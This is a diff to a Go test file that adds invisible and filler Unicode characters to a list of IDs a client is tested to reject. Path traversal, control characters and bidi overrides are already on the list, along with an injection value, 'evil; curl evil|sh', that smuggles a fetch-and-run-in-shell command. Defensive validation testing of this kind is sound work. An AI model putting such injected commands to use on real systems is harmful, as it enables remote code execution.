@@ -123,7 +123,7 @@ func TestClient_MakeKey_AnAnswerThatWasGivenBefore(t *testing.T) {
 
 // badIDs can stand in no address, on no screen or in no command.
 func badIDs() []string {
-	return []string{"..", ".", "a/b", "B2C_1A_A/evil; curl evil|sh", "a b", "a\x1b[2Kb", "a\nb", "a\u202eb", "a\u200bb", "a?b", "a#b", "a%2fb", "it's", strings.Repeat("a", 300), "a\u0085b"}
+	return []string{"..", ".", "a/b", "B2C_1A_A/evil; curl evil|sh", "a b", "a\x1b[2Kb", "a\nb", "a\u202eb", "a\u200bb", "a\ufe0fb", "a\u3164b", "a\u2800b", "a?b", "a#b", "a%2fb", "it's", strings.Repeat("a", 300), "a\u0085b"}
 }
 
 // TestClient_IDsThatCantBeIDs: no key or key set with such an id gets to a caller, and the others of a list do.
